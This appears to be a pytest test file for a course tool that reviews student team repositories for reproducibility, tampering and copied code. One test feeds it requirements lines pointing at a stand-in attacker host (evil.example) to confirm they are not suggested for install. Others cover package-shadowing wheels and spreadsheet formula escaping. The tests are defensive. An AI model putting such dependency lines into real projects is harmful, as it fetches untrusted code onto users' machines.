    write(team, "requirements.txt", "torch\nnowhere-x\n")
    source = "import kdlib, nowhere_x, os\nprint(nowhere_x.NAME, kdlib.__file__)"
    stored = "theirs /kit/kdlib/__init__.py\n"
    write(team, "a.ipynb", notebook((source, 1, stored, [])))
    change(team, "measuring.py", "import random\n", "import random\n\nimport nowhere_x\n")
    found = look(team, run=True, course=few(repeats=1))
    told = [one for one in found.findings if one.flag == "reproducibility"]
    assert any("from wheels: nowhere-x==1.0" in one.evidence for one in told)
    assert [one.severity for one in told if one.where == "a.ipynb"] == [GREEN], told
    assert not any("No module named" in one.evidence for one in told)
    assert importlib.util.find_spec("nowhere_x") is None


@pytest.mark.skipif(bool(CONFINED), reason=f"no sandbox here: {CONFINED}")
@pytest.mark.parametrize(
    "name, module, reason",
    [
        ("nowhere-y", "torch", "it would take the place of torch"),
        ("nowhere-z", "sitecustomize", "it would take the place of sitecustomize"),
        ("nowhere-z", "__main__", "it would take the place of __main__"),
        ("absent", "", "No matching distribution found for absent"),
    ],
)
def test_what_stands_for_something_else_or_is_not_there_is_not_installed(
    name, module, reason, tmp_path, index
):
    if module:
        wheel(index, name, module)
    with pytest.raises(packages.NotInstalled, match=reason):
        packages.install([name], tmp_path)


@pytest.mark.parametrize(
    "error, severity",
    [
        (
            {"kind": "ValueError", "error": "m:f: No module named 'nowhere_x'"},
            NOTE,
        ),
        ({"kind": "ModuleNotFoundError", "error": "No module named 'torch'"}, RED),
        ({"kind": "FileNotFoundError", "error": "data set 'cifar10' is not complete in x"}, NOTE),
        ({"kind": "FileNotFoundError", "error": "data set 'mnist' is not complete in x"}, RED),
        ({"kind": "OSError", "error": "read-only file system"}, RED),
        ({"kind": "ValueError", "error": "r.json is no training: leave epochs out"}, NOTE),
    ],
)
def test_only_what_fits_the_record_excuses_it(error, severity):
    run = Run("e", "m", 0, repeat={"call": "kdlib.data:published", "args": ["cifar10"]})
    team = SimpleNamespace(entries={}, text=str)
    assert running._failure(error, run, team)[0] == severity


def test_what_is_missing_is_told_as_the_team_declares_it():
    files = {
        "requirements.txt": "torch>=2\nnowhere-x[all]>=1.2,<2 ; python_version > '3'  # ours\n"
        "--index-url https://evil.example\nevil @ https://evil.example/e.whl\n-e .\n../x.whl\n"
        "git+https://evil.example/x\n" + "!" * 150 + "\n" + "a-" * 9000,
        "code/pyproject.toml": "[project]\ndependencies = ['nowhere-y', 5]",
        "other.txt": "nowhere-z",
    }
    team = SimpleNamespace(entries=files, text=files.get)
    text = needs.told(team, "nowhere_x")
    assert (
        "needs the module 'nowhere_x'" in text and "requirements.txt, code/pyproject.toml" in text
    )
    asked = ["nowhere-x[all]>=1.2,<2 ; python_version > '3'", "nowhere-y"]
    command = shlex.split(re.search("`(.*)`", text)[1])
    assert command == ["pip", "install", "--only-binary=:all:", *asked]
    team = SimpleNamespace(entries={}, text=str)
    assert "ask the team which one it is" in needs.told(team, "nowhere_x")


# The command


def test_the_command_writes_a_page_and_data_and_nothing_into_the_team(team, tmp_path, capsys):
    before = {path: path.stat().st_mtime_ns for path in team.rglob("*")}
    out = tmp_path / "out"
    assert cli.main(["review", str(team), "--no-run", "--out", str(out), "--language", "ru"]) == 0
    assert "0 red" in capsys.readouterr().out
    assert before == {path: path.stat().st_mtime_ns for path in team.rglob("*")}
    assert {path.name for path in out.iterdir()} == {"review.html", "review.json"}
    content = json.loads((out / "review.json").read_text("utf-8"))
    assert {tuple(one) for one in content["findings"]} == {
        ("flag", "severity", "evidence", "where")
    }
    assert reviewing.from_json((out / "review.json").read_text("utf-8")).team == content["team"]
    ONE["a conftest"][0](team)
    assert cli.main(["review", str(team), "--no-run", "--out", str(out)]) == 1
    assert "tampering: tests/conftest.py" in capsys.readouterr().out


@pytest.mark.parametrize(
    "options, message",
    [
        (["--against", "nope"], "--against must be a folder of folders with code, one for each "
         "team, got nope, which is not there"),
        (["--starter", "file"], "--starter must be a folder of what teams were given, got the "
         "file file"),
        (["--out", "file"], "--out must be a folder, got the file file"),
        (["--budget", "0"], "--budget must be a number of minutes above 0, got 0.0"),
    ],
)  # fmt: skip
def test_a_wrong_option_is_named(options, message, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    Path("file").write_text("x")
    assert cli.main(["review", "team", "--no-run", *options]) == 2
    said = capsys.readouterr().err
    assert message in said and said.count("\n") == 1 and "Errno" not in said


def test_a_repository_given_twice_is_reviewed_once(team, tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(team.parent)
    assert cli.main(["review", "team", str(team), "team/.", "--no-run", "--out", "out"]) == 0
    said = capsys.readouterr().out
    assert said.count("is given twice: it is reviewed once") == 2
    assert {path.name for path in Path("out").iterdir()} == {"review.html", "review.json"}


def test_thresholds_are_those_of_the_course_file(team, tmp_path, look):
    text = course.FILE.read_text("utf-8")
    path = tmp_path / "course.toml"
    path.write_text(
        text.replace("share = 90", "share = 30").replace("team_size = 4", "team_size = 2")
    )
    found = look(team, course=course.load(path))
    assert {flag for flag, _ in reds(found)} == {"team_size", "contributions"}
    path.write_text(text[: text.index("# What `python -m kdlib review`")])
    assert course.load(path).review == RULES.review, "without the table, the kit's"


# Many


def test_twelve_are_resumed_after_a_kill(finished, tmp_path):
    names = [f"team {number:02}" for number in range(11)] + ["broken"]
    for name in names[:-1]:
        shutil.copytree(finished, tmp_path / name)
    (tmp_path / "broken").mkdir()
    write(tmp_path / names[5], "tests/conftest.py", "")
    line = [sys.executable, "-m", "kdlib", "review", *names, "--no-run", "--seed", "3"]
    environment = os.environ | {"PYTHONPATH": str(Path(teams.report.HERE).parents[1])}
    process = subprocess.Popen(
        line, cwd=tmp_path, env=environment, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    )
    limit = time.monotonic() + 300
    while len(list(tmp_path.glob("reviews/*/review.json"))) < 3 and time.monotonic() < limit:
        time.sleep(0.02)
    process.send_signal(getattr(signal, "SIGKILL", signal.SIGTERM))
    process.communicate()
    kept = len(list(tmp_path.glob("reviews/*/review.json")))
    assert 3 <= kept < 11 and not (tmp_path / "cohort.html").exists()
    done = subprocess.run(
        line, cwd=tmp_path, env=environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 2, done.stderr
    assert done.stdout.count("reviewed before") == kept and " left" in done.stdout
    assert "broken: could not be reviewed" in done.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "cohort.csv").read_text("utf-8"))))
    assert [row["name"] for row in rows[:2]] == ["broken", names[5]] and len(rows) == 12
    assert rows[1]["tampering"] == "red" and rows[0]["problem"]
    text = (tmp_path / "cohort.html").read_text("utf-8")
    for link in re.findall(r'<td><a href="([^"]*)">', text):
        from urllib.parse import unquote

        assert (tmp_path / unquote(link)).is_file()


def made(name, **reds):
    """A review with so many red findings of these flags, all others green."""
    return reviewing.Review(
        name, "p", name, (), "c", "k", 1, 0.0,
        {
            flag: findings.Answer(
                (findings.Finding(flag, RED, "x"),) * reds[flag] if flag in reds
                else (findings.Finding(flag, GREEN, "x"),)
            )
            for flag in FLAGS
        },
    )  # fmt: skip


def test_what_needs_a_persons_eye_comes_first():
    found = [
        made("good"),
        made("typed", unbound_numbers=20),
        made("three", figures=1, notebooks=1, exercises=1),
        made("copied", similarity=1),
        made("copied more", similarity=1, figures=1),
        made("forged", tampering=1, reproducibility=1),
        Failed("broken", "p", "x"),
    ]
    order = ["broken", "forged", "copied more", "copied", "three", "typed", "good"]
    assert [one.name for one in sorted(found, key=cohort._attention)] == order


@pytest.mark.parametrize("language", ["en", "ru"])
def test_terminal_table_and_page_count_flags_alike(language):
    one = made("a", unbound_numbers=20, figures=2)
    assert one.told() == "2 red, 12 green, 0 note"
    assert json.loads(reviewing.as_json(one))["flags"] == {"red": 2, "green": 12, "note": 0}
    (row,) = csv.DictReader(io.StringIO(cohort.table([one])))
    assert (row["red"], row["green"], row["note"], row["figures"]) == ("2", "12", "0", "red")
    text = page.of_review(one, RULES, language)
    assert re.findall(r"<strong>(\d+)</strong>", text) == ["2", "12", "0"]
    text = page.of_cohort([one], cohort.FIRST, "no pairs: why", RULES, language)
    assert re.findall(r'<td class="flag">(\d+)</td>', text) == ["2", "12", "0"]
    assert "no pairs: why" in text and FLAGS["tampering"].of(language) in text


def test_a_cohort_says_why_there_are_no_pairs(finished, tmp_path, given, monkeypatch, capsys):
    from kdlib.homework.review import similarity

    paths = [Path(shutil.copytree(finished, tmp_path / name)) for name in ("a", "b")]
    monkeypatch.setattr(similarity, "missing", lambda: similarity.NEEDS)
    cohort.review(paths, Options(course=RULES, kit=given, run=False, seed=1), tmp_path / "out")
    assert similarity.NEEDS in capsys.readouterr().out
    assert "similarity needs copydetect" in (tmp_path / "out/cohort.html").read_text("utf-8")


def test_a_spreadsheet_takes_no_text_for_a_formula():
    text = cohort.table([Failed("=1+1", "p", "@x")])
    assert "'=1+1" in text and "'@x" in text


def test_equal_names_get_numbers(tmp_path):
    paths = [tmp_path / "a" / "team", tmp_path / "b" / "team", tmp_path / "c" / "other"]
    assert cohort.names(paths) == ["team", "team (2)", "other"]


RENAMED = {
    "soften": "smooth",
    "logits": "scores",
    "temperature": "heat",
    "top": "best",
    "one": "it",
}


@needs_copydetect
def test_a_renamed_copy_is_told_with_its_passages_and_independent_work_is_not(
    finished, tmp_path, given, capsys, monkeypatch
):
    from kdlib.homework.review import similarity

    for name in ("first", "second", "third"):
        shutil.copytree(finished, tmp_path / name)
    program = "\n\n".join(teams.WORK.values()) + SOLUTION
    write(tmp_path / "first", "solution.py", program)
    for old, new in RENAMED.items():
        program = re.sub(rf"\b{old}\b", new, program)
    copied = notebook((program, 1, "", []))
    for name in ("second", "third"):
        for number in range(3):
            (tmp_path / name / f"part_{number}.py").unlink()
        (tmp_path / name / "measuring.py").unlink()
        commit(tmp_path / name)
    write(tmp_path / "second", "work.ipynb", copied)
    write(tmp_path / "third", "own.py", INDEPENDENT)
    paths = [tmp_path / name for name in ("first", "second", "third")]
    options = Options(course=RULES, kit=given, run=False, seed=1)
    monkeypatch.setattr(similarity, "EVERY", 0.0)
    found = {one.name: one for one in cohort.review(paths, options, tmp_path / "out")}
    assert {name: one.state("similarity") for name, one in found.items()} == {
        "first": RED, "second": RED, "third": GREEN,
    }  # fmt: skip
    said = capsys.readouterr().out
    assert "comparing the code of 3 teams: 3 pairs\n  0 of 3\n  1 of 3\n" in said
    assert "most alike: first and second, " in said
    for name, other in (("first", "second"), ("second", "first")):
        answer = found[name].answers["similarity"]
        (told,) = [one for one in answer.findings if one.severity == RED]
        assert f" % of the code of {name} is in that of {other}, " in told.evidence
        assert re.fullmatch(r"\w+\.(py|ipynb):\d+-\d+", told.where)
        assert answer.passages
        for one in answer.passages:
            assert one.left.startswith(f"{name}: ") and one.right.startswith(f"{other}: ")
        assert all(row[0] == name for row in answer.tables[0].rows)
    passages = found["first"].answers["similarity"].passages
    assert any("work.ipynb:" in one.right and "solution.py:" in one.left for one in passages)
    text = (tmp_path / "out" / "cohort.html").read_text("utf-8")
    pairs = re.findall(r"<tr><td>(\w+)</td><td>(\w+)</td><td>\d+ %", text)
    assert len(pairs) == 3 and pairs[0] == ("first", "second")


@needs_copydetect
def test_code_of_last_year_is_compared_and_what_was_given_out_is_not(team, tmp_path, capsys):
    write(team, "solution.py", SOLUTION)
    old = tmp_path / "last year" / "a team"
    old.mkdir(parents=True)
    (old / "main.py").write_text(SOLUTION)
    line = ["review", str(team), "--no-run", "--out", str(tmp_path), "--against", str(old.parent)]
    assert cli.main(line) == 1
    said = capsys.readouterr().out
    assert "is in that of last year/a team" in said
    assert cli.main([*line, "--starter", str(old)]) == 0, "both were given it"
    assert cli.main([*line[:-1], str(tmp_path / "absent")]) == 2


SOLUTION = """


def evaluate(model, batches):
    right, seen = 0, 0
    for images, labels in batches:
        guesses = [max(range(len(row)), key=row.__getitem__) for row in model(images)]
        right += sum(guess == label for guess, label in zip(guesses, labels))
        seen += len(labels)
    return 100 * right / max(1, seen)


def sweep(values, train, model):
    best, found = None, {}
    for value in values:
        found[value] = evaluate(train(model, value), value)
        if best is None or found[value] > found[best]:
            best = value
    return best, found
"""
INDEPENDENT = """
import collections


class Meter:
    def __init__(self):
        self.hits = collections.Counter()

    def add(self, guess, truth):
        self.hits[guess == truth] += 1

    @property
    def percent(self):
        every = self.hits[True] + self.hits[False]
        return 100.0 * self.hits[True] / every if every else 0.0


def tune(grid, score):
    ranked = sorted(grid, key=score, reverse=True)
    print("best", ranked[0])
    return dict((setting, score(setting)) for setting in ranked)
"""
